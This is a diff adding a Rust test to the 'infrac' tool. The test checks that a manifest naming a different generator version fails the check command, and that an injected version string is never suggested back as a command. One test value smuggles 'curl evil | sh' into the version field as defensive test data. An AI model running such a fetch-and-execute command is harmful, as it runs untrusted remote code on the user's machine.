@@ -451,3 +451,40 @@ fn every_output_code_has_a_case() {
         assert!(found, "{} has no snapshot in tests/trust.rs", code.as_str());
     }
 }
+
+/// A tree another infrac version generated is stale for this one, even when every file
+/// matches; `build` records this version and `check` is fresh again. A version that is not
+/// version-shaped (the checkout is untrusted) is never suggested as a command.
+#[test]
+fn a_tree_generated_by_another_version_fails_check() {
+    let repo = Repo::new();
+    let manifest = repo.path("golden/.infrac-manifest");
+    let ours = fs::read_to_string(&manifest).unwrap();
+    let this = format!("# generator: infrac {}\n", env!("CARGO_PKG_VERSION"));
+    assert!(ours.contains(&this), "{ours}");
+    let mut seen = Vec::new();
+    for other in [
+        "# generator: infrac 0.0.9\n",
+        "# generator: infrac 0.1.0; curl evil | sh\n",
+        "",
+    ] {
+        fs::write(&manifest, ours.replace(&this, other)).unwrap();
+        let (code, stdout, stderr) = repo.run(&["check"]);
+        assert_eq!((code, stdout.as_str()), (1, ""), "{other:?}");
+        assert!(!stderr.contains("pip install infrac==0.1.0;"), "{stderr}");
+        seen.push(stderr);
+    }
+    insta::assert_snapshot!("generator_version_check", seen.join("\n---\n"));
+    let (code, stdout, _) = repo.run(&["build"]);
+    assert_eq!(
+        (code, stdout.as_str()),
+        (0, "built golden: 0 written, 226 unchanged, 0 deleted\n")
+    );
+    assert_eq!(fs::read_to_string(&manifest).unwrap(), ours);
+    let (code, stdout, _) = repo.run(&["check"]);
+    assert_eq!(
+        (code, stdout.as_str()),
+        (0, "golden tree is fresh: 226 files\n")
+    );
+    repo.assert_victim_intact();
+}
